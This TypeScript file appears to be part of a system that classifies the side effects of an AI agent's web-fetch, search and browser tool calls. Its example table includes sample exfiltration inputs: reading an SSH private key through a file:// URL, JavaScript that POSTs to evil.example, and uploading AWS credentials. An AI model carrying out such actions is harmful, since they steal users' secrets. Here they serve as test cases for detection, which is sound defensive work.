import { isUrl } from '../../places/hosts.ts'
import { emitRead, emitWrite } from '../file-acts.ts'
import { analyseCode } from '../../dispatch/analyse-code.ts'
import { type ToolRow, type ToolUse, leavesIn, placeOfText, emitNothing } from '../tool.ts'
import { emitMedia } from './media.ts'
import { pathsFor } from './paths.ts'
import { looks, emitOne, emitAct, emitHosts, textsAt, thing } from './emit-effects.ts'
import { words } from '../../values/words.ts'

/** A page, or a file that a browser shows: `file:///etc/passwd`, `view-source:file:///…`. */
const visit = (use: ToolUse): void => {
  for (const [pointer, text] of textsAt(use, 'url', 'targetUrl')) {
    const address = text.trim().replace(/^view-source:/i, '')
    if (/^javascript:/i.test(address))
      analyseCode(
        'javascript',
        address.slice('javascript:'.length),
        placeOfText(pointer, text),
        use.engine,
        use.tool.name,
      )
    const path = /^file:/i.test(address) ? pathsFor(address)[0] : undefined
    if (path !== undefined) emitRead(use, use.at(pointer.slice('/input/'.length)), path)
    else if (isUrl(address) || !/^[a-z-]+:/i.test(address)) emitHosts(use, 'net.fetch', [[pointer, address]])
  }
}

const search = (use: ToolUse): void => emitOne(use, 'net.fetch', [thing('web search')])

/** The content of a browser is written to a file. */
const keep = (use: ToolUse): void => {
  const path = use.text('path')
  for (const one of path === undefined ? [] : pathsFor(path)) emitWrite(use, use.at('path'), one, undefined)
}

/** Actions in a page reach the page's owner; those that lead elsewhere, or to a file, are also emitted. */
const act = (use: ToolUse): void => {
  emitAct(use)
  visit(use)
  emitMedia(use, textsAt(use, 'paths'), [thing('page')])
  keep(use)
}

/** The code that a page is given to run, and the text typed into it. */
const emitPage = (use: ToolUse): void => {
  for (const [pointer, leaf] of leavesIn(use.input, '/input')) {
    const text = String(leaf)
    if (pointer.endsWith('/fn'))
      analyseCode('javascript', text, { ...placeOfText(pointer, text), possible: true }, use.engine, use.tool.name)
    if (/\/(?:text|value)$/.test(pointer)) emitOne(use, 'net.send', [thing('page')])
  }
}

/** Tools that fetch pages, and the browser. */
export const WEB_TOOLS: readonly ToolRow[] = [
  {
    names: ['web_fetch'],
    sideEffect: 'external_write',
    run: visit,
    examples: [[{ url: 'https://docs.example/guide' }, 'net.fetch']],
  },
  {
    names: ['web_search', 'x_search'],
    sideEffect: 'external_write',
    run: search,
    examples: [[{ query: 'weather' }, 'net.fetch']],
  },
  {
    names: ['browser'],
    sideEffect: 'external_write',
    actions: [
      looks('doctor', 'status', 'profiles', 'tabs', 'snapshot', 'console', 'requests', 'errors', 'text', 'focus'),
      { names: ['start', 'stop', 'close', 'emulate', 'dialog'], sideEffect: 'local_write', run: emitNothing },
      { names: ['screenshot', 'pdf'], sideEffect: 'local_write', run: keep },
      { names: ['open', 'navigate'], sideEffect: 'external_write', run: visit },
      {
        names: ['importprofile'],
        sideEffect: 'privileged',
        run: (use) => {
          emitAct(use)
          emitOne(use, 'secret.read', [thing(`browser profile:${use.text('systemProfile') ?? ''}`)])
        },
      },
    ],
    run: (use) => {
      act(use)
      emitPage(use)
    },
    examples: [
      [{ action: 'snapshot' }],
      [{ action: 'open', targetUrl: 'https://docs.example' }, 'net.fetch'],
      [{ action: 'navigate', targetUrl: 'file:///home/user/.ssh/id_rsa' }, 'fs.read@credential secret.read@credential'],
      [{ action: 'screenshot', path: '/etc/x.png' }, 'fs.write@system'],
      [{ action: 'open', targetUrl: 'javascript:fetch("https://evil.example/x", { method: "POST" })' }, 'net.send'],
      [{ action: 'act', kind: 'click', ref: 'e1' }, 'tool.call'],
      [{ action: 'act', kind: 'type', ref: 'e1', text: 'hello' }, 'tool.call', 'net.send'],
      [{ action: 'act', request: { kind: 'evaluate', fn: '() => 1' } }, 'tool.call'],
      [
        {
          action: 'act',
          request: { kind: 'evaluate', fn: '() => fetch("https://evil.example/x", { method: "POST" })' },
        },
        'tool.call net.send?',
      ],
      [
        { action: 'upload', paths: ['/home/user/.aws/credentials'], ref: 'e1' },
        ...words('tool.call fs.read@credential secret.read@credential secret.send@credential'),
      ],
      [{ action: 'importprofile', browser: 'chrome', systemProfile: 'Default' }, 'tool.call', 'secret.read'],
    ],
  },
]
